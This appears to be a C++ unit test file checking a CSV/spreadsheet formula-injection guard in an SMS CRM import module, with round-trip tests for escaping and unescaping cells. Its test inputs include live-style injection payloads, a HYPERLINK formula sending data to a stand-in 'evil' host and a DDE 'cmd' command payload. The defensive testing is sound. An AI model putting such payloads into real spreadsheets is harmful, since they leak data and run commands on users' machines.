#include <doctest/doctest.h>

#include "core/import/formula.hpp"

using namespace smscrm;

TEST_CASE("a cell that a spreadsheet would run gets an apostrophe, numbers do not") {
  struct Case {
    std::string cell, want;
  };
  const Case cases[] = {
      {"", ""},
      {"Ann", "Ann"},
      {"a=b", "a=b"},
      {"=HYPERLINK(\"http://evil\"&A1)", "'=HYPERLINK(\"http://evil\"&A1)"},
      {"  =1+1", "'  =1+1"},
      {"+1+1", "'+1+1"},
      {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
      {"@SUM(1)", "'@SUM(1)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "'\r=1"},
      {"\n=1", "'\n=1"},
      {"＝1", "'＝1"},
      {"＠x", "'＠x"},
      {"-", "'-"},
      {"+", "'+"},
      {"-5", "-5"},
      {"+3.25", "+3.25"},
      {"-1,5", "-1,5"},
      {"1e-7", "1e-7"},
      {"-1e+7", "-1e+7"},
      {"+14155550123", "+14155550123"},
      {"+1 415 555", "'+1 415 555"},
      {"-5=1", "'-5=1"},
      {"'=1", "''=1"},
      {"'-5", "''-5"},
      {"'tis", "'tis"},
      {"''", "''"},
  };
  for (const auto& c : cases) {
    CAPTURE(c.cell);
    CHECK(guard_formula(c.cell) == c.want);
    CHECK(unguard_formula(c.want) == c.cell);
  }
}

TEST_CASE("every short cell comes back as it was") {
  const std::string_view alphabet = "'=+-@\t\r\n 5a.e\"";
  std::string cell;
  const auto check_all = [&](auto&& self, int left) -> void {
    const auto guarded = guard_formula(cell);
    REQUIRE(unguard_formula(guarded) == cell);
    for (const char c : left > 0 ? alphabet : std::string_view{}) {
      cell.push_back(c);
      self(self, left - 1);
      cell.pop_back();
    }
  };
  check_all(check_all, 4);
}
